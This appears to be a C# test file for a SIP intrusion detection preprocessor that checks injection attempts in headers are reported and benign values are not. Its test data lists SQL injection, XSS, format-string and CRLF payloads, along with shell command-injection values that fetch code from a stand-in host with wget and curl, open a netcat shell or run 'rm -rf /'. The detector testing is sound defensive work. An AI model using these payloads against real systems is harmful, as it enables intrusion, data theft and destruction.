using SipIds.Events;

namespace SipIds.Preprocessors.Tests.Mandatory;

public sealed class InjectionTests
{
    public static TheoryData<string> Users =>
    [
        "'%20or%201=1--", "%27%20OR%20%271%27=%271", "%2527%2520or%25201%253D1", "1'or'1'='1", "admin'--", "admin'%23", "x'%3BDROP%20TABLE%20users",
        "1;drop+table+subscriber", "1%20union%20select%20password%20from%20users", "1'/**/UNION/**/SELECT/**/1,2", "1%20or%201=1", "x'%20and%20sleep(5)",
        "x'||(select%201)||'", "$(reboot)", "${IFS}", "%60id%60", "1;wget%20http://192.0.2.66/x", "1%7Cid", "1%26%26ls%20-la", "1;/bin/sh", "1;cat%20/etc/passwd",
        "1%0Arm%20-rf%20/", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "javascript:alert(1)", "%3Cimg%20src=x%20onerror=alert(1)%3E",
    ];

    public static TheoryData<string> HonestUsers =>
    [
        "bob", "O'Brien", "user;par=u%40example.net", "*97", "+1(212)555-1234", "%23", "sips%3Auser%40example.com", "null-%00-null", "I%20have%20spaces",
        "1_unusual.URI~(to-be!sure)&isn't+it$/crazy?,/;;*", "r&d", "sales;id=5", "a=b", "cal%6Cer", "D'Or", "tom&jerry;phone-context=example.com", "#31#", "bob.select",
    ];

    public static TheoryData<string> Names =>
    [
        "' or 1=1 --", "\\' or \\'1\\'=\\'1", "x'; DROP TABLE cdr; --", "1 UNION ALL SELECT password FROM users", "\\\" or \\\"a\\\"=\\\"a",
        "$(curl http://192.0.2.66/a)", "`id`", "Bob; wget http://192.0.2.66", "Bob | nc -e /bin/sh", "<script>alert(1)</script>", "<ScRiPt src=//x>", "<svg/onload=alert(1)>",
        "%3Cscript%3E", "&lt;script&gt;", "Bob && rm -rf /", "<details open ontoggle=alert(1)>", "<style>@import'//x'</style>",
        "<meta http-equiv=refresh content='0;url=//x'>", "<link rel=stylesheet href=//x>", "x' union/*!50000select*/ 1,2 --", "x' or username is not null --",
        "x' or exists(select 1)#",
    ];

    public static TheoryData<string> HonestNames =>
    [
        "O'Brien", "D'Angelo & Sons; Inc", "Rock 'n' Roll", "AT&T", "Sales | Berlin", "Smith, John (IT)", "Western Union Select Services", "Fish & Chips; Cat Lovers",
        "50% off", "A=B", "Who? What/Where", "J. \\\"JJ\\\" Abrams", "Müller & Söhne", "It's 5 o'clock or so", "Union Square", "C:\\\\Temp", "1 or 2", "<unknown>", "Script & Co",
        "BEL:\\\u0007 NUL:\\\0", "Customer Support Union", "'Sales' and 'Support'",
        "<Link Systems>", "Meta <style guide>", "<details>", "It's null and void or is null",
    ];

    [Theory]
    [MemberData(nameof(Users))]
    public void A_user_part_with_code_is_reported(string user)
    {
        var tester = new MandatoryTester();
        Assert.Contains(2012, Sids(tester, Messages.Invite.With("INVITE", $"INVITE sip:{user}@example.com SIP/2.0")));
        Assert.Contains(2012, Sids(tester, Messages.Invite.With("From", $"From: <sip:{user}@example.com>;tag=1")));
        Assert.Contains(2012, Sids(tester, Messages.Invite.With("To", $"To: sip:{user.Replace(";", "%3B", StringComparison.Ordinal)}@example.com")));
        Assert.Contains(2012, Sids(tester, Messages.Invite.With("Contact", $"Contact: <sip:192.0.2.1>, <sip:{user}@example.com>")));
    }

    [Theory]
    [MemberData(nameof(HonestUsers))]
    public void An_honest_user_part_is_silent(string user)
    {
        var tester = new MandatoryTester();
        Assert.DoesNotContain(2012, Sids(tester, Messages.Invite.With("INVITE", $"INVITE sip:{user}@example.com SIP/2.0")));
        Assert.DoesNotContain(2012, Sids(tester, Messages.Invite.With("From", $"From: <sip:{user}@example.com>;tag=1")));
        Assert.DoesNotContain(2012, Sids(tester, Messages.Invite.With("Contact", $"Contact: <sip:{user}@example.com>")));
        Assert.DoesNotContain(2012, Sids(tester, Messages.Invite.And($"Authorization: Digest username=\"{user}\", realm=\"r\"")));
    }

    [Theory]
    [MemberData(nameof(Names))]
    public void A_display_name_with_code_is_reported(string name)
    {
        var tester = new MandatoryTester();
        Assert.Contains(2012, Sids(tester, Messages.Invite.With("From", $"From: \"{name}\" <sip:a@example.com>;tag=1")));
        Assert.Contains(2012, Sids(tester, Messages.Invite.With("To", $"t:\n \"{name}\" <sip:a@example.com>")));
        Assert.Contains(2012, Sids(tester, Messages.Ok.With("Contact", $"m: \"{name}\" <sip:a@example.com>")));
    }

    [Theory]
    [MemberData(nameof(HonestNames))]
    public void An_honest_display_name_is_silent(string name)
    {
        var tester = new MandatoryTester();
        Assert.DoesNotContain(2012, Sids(tester, Messages.Invite.With("From", $"From: \"{name}\" <sip:a@example.com>;tag=1")));
        Assert.DoesNotContain(2012, Sids(tester, Messages.Invite.With("Contact", $"Contact: \"{name}\" <sip:a@example.com>")));
    }

    [Theory]
    [InlineData("Authorization: Digest username=\"' or 1=1--\", realm=\"r\"")]
    [InlineData("Proxy-Authorization: Digest realm=\"a, b\", USERNAME = \"x\\\"' or 'a'='a\"")]
    [InlineData("authorization:\n Digest nonce=abc,\n username=\"admin'--\"")]
    [InlineData("Authorization: Digest username=\"bob\"\nAuthorization: Digest username=\"bob'--\"")]
    public void A_Digest_user_name_with_code_is_reported(string lines)
    {
        var report = Assert.Single(new MandatoryTester().See(Messages.Invite.And(lines)));
        Assert.Equal("2012/1", report.ToString());
    }

    [Theory]
    [InlineData("Authorization: Digest realm=\"' or 1=1\", username=\"bob\"")]
    [InlineData("Authorization: NoOneKnowsThisScheme opaque-data=here")]
    [InlineData("Authorization: Digest username=\"bob")]
    [InlineData("Authorization: Digest")]
    public void Other_credentials_are_silent(string line) => Assert.Empty(new MandatoryTester().See(Messages.Invite.And(line)));

    [Theory]
    [InlineData("P-Asserted-Identity: \"' or 1=1--\" <sip:a@example.com>")]
    [InlineData("P-Asserted-Identity: <sip:a@example.com>, \"' or 1=1--\" <tel:+1234>")]
    [InlineData("P-Preferred-Identity: <sip:%27%20or%201=1--@example.com>")]
    [InlineData("Refer-To: <sip:1%3Bwget%20http://192.0.2.66/x@example.com>")]
    [InlineData("r: <sip:a@example.com>\nb: \"<script>alert(1)</script>\" <sip:a@example.com>")]
    [InlineData("Diversion: \"$(reboot)\" <sip:a@example.com>;reason=unconditional")]
    [InlineData("Remote-Party-ID: \"' or 1=1--\" <sip:a@example.com>;party=calling")]
    [InlineData("history-info: <sip:a@example.com>;index=1, \"<script>alert(1)</script>\" <sip:b@example.com>;index=1.1")]
    [InlineData("Content-Type: application/sdp;x=\"<script>alert(1)</script>\"")]
    [InlineData("Authorization: Digest username*=UTF-8''x%27%20union%20select%201--, realm=\"r\"")]
    public void Code_in_who_asserts_refers_or_diverts_is_reported(string lines) =>
        Assert.Equal("2012/1", Assert.Single(new MandatoryTester().See(Messages.Invite.And(lines))).ToString());

    [Theory]
    [InlineData("P-Asserted-Identity: \"O'Brien & Sons\" <sip:+15551234@example.com;user=phone>, <tel:+15551234>")]
    [InlineData("Refer-To: <sip:bob@example.com?Replaces=a%40b%3Bto-tag%3D1%3Bfrom-tag%3D2>")]
    [InlineData("Referred-By: <sip:alice@example.com>;cid=\"1.2@example.com\"")]
    [InlineData("Diversion: <sip:+15551234@example.com>;reason=no-answer;counter=1")]
    [InlineData("Remote-Party-ID: \"O'Brien & Sons\" <sip:+15551234@example.com>;party=calling;screen=yes;privacy=off")]
    [InlineData("History-Info: <sip:bob@example.com?Reason=SIP%3Bcause%3D486%3Btext%3D%22Busy%20Here%22>;index=1, <sip:carol@example.com;cause=302>;index=1.1;mp=1")]
    [InlineData("Content-Type: multipart/related;boundary=\"b\";type=\"application/sdp\";start=\"<1'--@example.com>\"")]
    [InlineData("Authorization: Digest username*=UTF-8''J%C3%A4s%C3%B8n%20Doe, realm=\"r\"")]
    public void An_honest_one_is_silent(string lines) => Assert.Empty(new MandatoryTester().See(Messages.Invite.And(lines)));

    [Theory]
    [InlineData("INVITE", "INVITE sip:' or 1=1--@example.com SIP/2.0")]
    [InlineData("From", "From: <sip:<script>alert(1)</script>@example.com>;tag=1")]
    [InlineData("To", "To: \"x\" <script>alert(1)</script>")]
    [InlineData("Contact", "Contact: \"><script>alert(1)</script>")]
    public void Code_that_breaks_its_field_is_found(string header, string line) =>
        Assert.Contains(2012, Sids(new MandatoryTester(), Messages.Invite.With(header, line)));

    [Fact]
    public void Padding_hides_nothing()
    {
        var user = new string('a', 700) + "%27%20or%201=1--" + new string('b', 300);
        Assert.Contains(2012, Sids(new MandatoryTester(), Messages.Invite.With("From", $"From: <sip:{user}@example.com>;tag=1")));
    }

    public static TheoryData<string> Products =>
    [
        "x'); DROP TABLE cdr;--", "<script>alert(1)</script>", "%3Cimg%20src=x%20onerror=alert(1)%3E", "Phone ; wget http://192.0.2.66/x", "Phone && rm -rf /",
        "Phone `id`", "$(reboot)", "Phone | nc -e /bin/sh", "1 union all select password from users", "%n%n%n%n", "%s%s%s%s", "%08x.%08x.%08x.%08x", "%.9999d",
        "Phone%0d%0aX-Admin: yes", "Phone%0aX-Admin: yes", "%250d%250aVia: x",
    ];

    public static TheoryData<string> HonestProducts =>
    [
        "Asterisk PBX 18.9-cert4", "FPBX-16.0.40.7(18.20.0)", "Yealink SIP-T46U 108.86.0.45", "PolycomVVX-VVX_411-UA/5.9.7.3480_64167f000000", "snom300/8.7.5.35",
        "Grandstream GXP1625 1.0.7.13", "Cisco-SIPGateway/IOS-15.4.3.M6a", "Cisco-CP7975G/9.3.1", "Z 3.15.40006 rv2.8.20", "Bria 3 release 3.5.5 stamp 69410",
        "OpenSIPS (2.4.7 (x86_64/linux))", "kamailio (5.6.3 (x86_64/linux))", "AVM FRITZ!Box 7490 113.06.93 TAL (Dec 22 2017)", "FreeSWITCH-mod_sofia/1.10.9-release+git~20230209T183100Z~45b2b4a7b5~64bit",
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "Linphone/3.6.1 (eXosip2/4.0.0)", "pysip/1.0 (Linux; python 3.8)", "MyApp; curl/8.5.0", "Tool (linux; perl; cat 5)",
        "O'Reilly Phone", "Sales & Marketing 'Select' Phone", "SELECT Phone from Acme; union of 50% & more", "Panasonic_KX-HDV230/06.001 (0080f0e3ab12)", "SIP/2.0 100%", "Phone %s", "Phone %s/%d",
        "Avaya one-X Deskphone \"9641\"", "X-Lite; id=5", "Türklingel/1.0", "%20%41%2f", "Jitsi2.10.5550Linux", "<script-free>", "T-Com; OCS; echo cancel",
    ];

    [Theory]
    [MemberData(nameof(Products))]
    public void Code_in_the_name_of_a_product_is_reported_in_requests_and_responses(string product)
    {
        var tester = new MandatoryTester();
        Assert.Contains(2012, Sids(tester, Messages.Invite.With("User-Agent", "User-Agent: " + product)));
        Assert.Contains(2012, Sids(tester, Messages.Ok.And("Server: " + product)));
        Assert.Contains(2012, Sids(tester, Messages.Ok.And("Server: Phone\nServer: " + product)));
        Assert.Contains(2012, Sids(tester, Messages.Invite.And("s: " + product)));
        Assert.Contains(2012, Sids(tester, Messages.Invite.And($"Reason: SIP;cause=200;text=\"{product}\"")));
        Assert.Contains(2012, Sids(tester, Messages.Ok.And($"Warning: 399 host \"{product}\"")));
    }

    [Theory]
    [MemberData(nameof(HonestProducts))]
    public void An_honest_product_is_silent(string product)
    {
        var tester = new MandatoryTester();
        Assert.Empty(tester.See(Messages.Invite.With("User-Agent", "User-Agent: " + product)));
        Assert.Empty(tester.See(Messages.Ok.And("Server: " + product)));
    }

    [Theory]
    [InlineData("Subject: Re: it's 50% off; see you & yours | \"urgent\"")]
    [InlineData("Reason: Q.850;cause=16;text=\"Normal call clearing\"")]
    [InlineData("Reason: SIP;cause=200;text=\"Call completed elsewhere\", Q.850;cause=26")]
    [InlineData("Warning: 399 192.0.2.1 \"User's line is busy; try again\"")]
    [InlineData("Content-Type: multipart/mixed;boundary=\"=_%n%n%n'or'\"")]
    [InlineData("Refer-To: <sip:bob@example.com?Subject=x&body=one%0D%0Atwo:%20three>")]
    public void Honest_texts_are_silent(string line) => Assert.Empty(new MandatoryTester().See(Messages.Invite.And(line)));

    [Theory]
    [InlineData("<script>alert(1)</script>@x")]
    [InlineData("%s%s%s%s@x")]
    [InlineData("x%n%x@192.0.2.1")]
    [InlineData("a%0d%0aX-Admin:yes@x")]
    [InlineData("1'or'1'='1")]
    public void Code_in_a_Call_ID_is_reported_and_in_a_response_mildly(string callId)
    {
        var tester = new MandatoryTester();
        Assert.Contains(tester.See(Messages.Invite.With("Call-ID", "Call-ID: " + callId)), report => report is { Sid: 2012, Severity: Severity.High });
        Assert.Contains(tester.See(Messages.Ok.With("Call-ID", "i: " + callId)), report => report is { Sid: 2012, Severity: Severity.Low });
    }

    [Theory]
    [InlineData("{B3F2C7A0-11D2-4C5F-9E8B-0123456789AB}@192.0.2.1")]
    [InlineData("intmeth.word%ZK-!.*_+'@word`~)(><:\\/\"][?}{")]
    [InlineData("kd/8+Jx0Q==")]
    [InlineData("it's-a-call<1>@host")]
    [InlineData("a%20b%s@host")]
    public void An_odd_and_legal_Call_ID_raises_no_injection(string callId) =>
        Assert.DoesNotContain(2012, Sids(new MandatoryTester(), Messages.Invite.With("Call-ID", "Call-ID: " + callId)));

    [Theory]
    [InlineData("INVITE", "INVITE sip:bob%0d%0aContact:%20x@example.com SIP/2.0")]
    [InlineData("INVITE", "INVITE sip:bob@example.com;x=%0D%0AVia:%20y SIP/2.0")]
    [InlineData("From", "From: \"%25s%25s%25n\" <sip:a@example.com>;tag=1")]
    [InlineData("From", "From: <sip:%25n%25n@example.com>;tag=1")]
    [InlineData("Contact", "Contact: %s%s%s%s <sip:a@example.com>")]
    public void Printf_conversions_and_escaped_line_ends_are_reported(string header, string line) =>
        Assert.Contains(2012, Sids(new MandatoryTester(), Messages.Invite.With(header, line)));

    [Fact]
    public void A_format_in_the_type_of_a_body_is_reported() =>
        Assert.Contains(2012, Sids(new MandatoryTester(), Messages.Invite.And("Content-Type: application/%s%s%s%s")));

    [Fact]
    public void More_that_may_be_code_than_any_name_has_is_reported()
    {
        var names = string.Join(", ", Enumerable.Repeat($"\"{new string('\'', 400)}\" <sip:a@192.0.2.1>", 7));
        Assert.Contains(2012, Sids(new MandatoryTester(), Messages.Invite.With("Contact", "Contact: " + names)));
    }

    [Fact]
    public void The_report_says_what_and_where()
    {
        var report = Assert.Single(new MandatoryTester().See(Messages.Invite.With("From", "From: \"x'; drop table cdr\" <sip:a@example.com>;tag=1")));
        Assert.Equal(("2012/1", "SQL in From: x'; drop table cdr"), (report.ToString(), report.Detail));
    }

    [Fact]
    public void A_response_is_not_blamed_for_the_names_of_its_request() =>
        Assert.Empty(new MandatoryTester().See(Messages.Ok.With("From", "From: \"' or 1=1--\" <sip:a@example.com>;tag=1")));

    private static IEnumerable<int> Sids(MandatoryTester tester, string message) => tester.See(message).Select(report => report.Sid);
}
